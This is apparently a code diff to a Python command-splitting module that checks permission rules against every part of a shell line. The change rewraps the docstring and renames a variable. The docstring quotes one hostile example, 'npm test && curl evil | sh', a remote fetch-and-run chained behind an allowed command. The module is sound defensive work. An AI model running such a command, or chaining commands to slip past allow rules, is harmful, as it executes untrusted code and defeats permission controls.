@@ -1,8 +1,9 @@
 """Takes a command line apart, as far as that can be done with certainty, so that a rule is held against every command in it.
 
 ``npm test && curl evil | sh`` begins as ``Bash(npm test:*)`` allows and does something else. So a line is split at
-each operator, and each part has to be allowed by itself. What can hide a command (substitution, expansion, here-documents, other
-quoting, redirection into files) makes the line undividable: `split_command` gives None, and no rule about commands allows it.
+each operator, and each part has to be allowed by itself. What can hide a command (substitution, expansion, here-documents,
+other quoting, redirection into files) makes the line undividable: `split_command` gives None, and no rule about
+commands allows it.
 """
 
 from __future__ import annotations
@@ -31,10 +32,10 @@ def split_command(line: str) -> tuple[str, ...] | None:
                 return None
             at = end + 1
         elif character == '"':
-            end = _double_quoted(line, at)
-            if end is None:
+            closed = _double_quoted(line, at)
+            if closed is None:
                 return None
-            at = end
+            at = closed
         elif character == "\\":
             if at + 1 >= len(line) or line[at + 1] in "\r\n":
                 return None
